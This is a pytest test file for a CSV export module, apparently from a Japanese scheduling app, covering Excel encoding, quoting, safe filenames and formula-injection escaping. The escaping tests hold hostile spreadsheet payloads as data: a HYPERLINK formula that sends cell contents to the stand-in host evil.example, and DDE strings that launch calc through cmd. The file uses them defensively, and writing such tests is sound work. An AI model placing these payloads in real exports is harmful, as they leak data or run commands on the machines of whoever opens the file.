"""The CSV a coordinator opens in Excel: Japanese survives, formulas typed by staff do not run."""

from __future__ import annotations

import csv
import io

import pytest

from dialogs.exports import ExportFile, ascii_filename, csv_bytes, safe_filename


def read_back(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_excel_gets_a_bom_and_crlf_line_ends() -> None:
    content = csv_bytes(["名前", "コメント"], [["松山 太郎", "よろしくお願いします"]])

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == "名前,コメント\r\n松山 太郎,よろしくお願いします\r\n"


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("松山 =1+1", "松山 =1+1"),  # not at the start: plain text
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(typed: str, written: str) -> None:
    [header, row] = read_back(csv_bytes(["コメント"], [[typed]]))

    assert header == ["コメント"]
    assert row == [written]


def test_hostile_names_in_the_header_are_escaped_too() -> None:
    [header] = read_back(csv_bytes(["=1+1", "名前"], []))

    assert header == ["'=1+1", "名前"]


def test_commas_quotes_and_line_breaks_stay_inside_their_cell() -> None:
    comment = '会場は"松前町役場"、\n駐車場あり, 10台'
    [_, row] = read_back(csv_bytes(["名前", "コメント"], [["今治 花子", comment]]))

    assert row == ["今治 花子", comment]


def test_numbers_are_written_as_numbers_and_none_as_blank() -> None:
    [_, row] = read_back(csv_bytes(["a", "b", "c"], [[-3, 2.5, None]]))

    assert row == ["-3", "2.5", ""]


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("日程調整_第2回IYO WORK_20261126.csv", "日程調整_第2回IYO WORK_20261126.csv"),
        ('日程調整_a/b\\c:d*e?f"g<h>i|j_20261126.csv', "日程調整_a_b_c_d_e_f_g_h_i_j_20261126.csv"),
        ("日程調整_改行\r\nあり.csv", "日程調整_改行_あり.csv"),
        ("..", "export"),
    ],
)
def test_a_file_name_is_safe_on_every_system(title: str, name: str) -> None:
    assert safe_filename(title) == name


def test_a_long_file_name_keeps_its_extension() -> None:
    name = safe_filename("日程調整_" + "長" * 300 + ".csv")

    assert len(name) <= 120
    assert name.endswith(".csv")


def test_the_ascii_name_is_given_or_derived() -> None:
    given = ExportFile("日程調整_忘年会.csv", "text/csv", b"", ascii_filename="poll_3.csv")
    derived = ExportFile("日程調整_第2回IYO WORK.csv", "text/csv", b"")
    japanese_only = ExportFile("日程調整.csv", "text/csv", b"")

    assert ascii_filename(given) == "poll_3.csv"
    assert ascii_filename(derived) == "2_IYO_WORK.csv"
    assert ascii_filename(japanese_only) == "export.csv"
    assert ascii_filename(ExportFile("Café 会議.csv", "text/csv", b"")) == "Cafe.csv"
